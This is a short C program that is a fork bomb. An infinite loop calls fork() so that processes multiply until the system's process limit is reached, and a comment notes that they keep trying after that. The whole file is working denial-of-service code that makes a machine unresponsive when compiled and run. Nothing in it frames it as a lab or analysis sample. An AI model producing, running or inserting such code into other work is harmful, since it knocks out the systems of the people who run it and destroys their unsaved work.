// Every process makes two of itself; at the limit of processes they go on trying.
#include <unistd.h>

int main(void) {
    for (;;) {
        fork();
    }
}
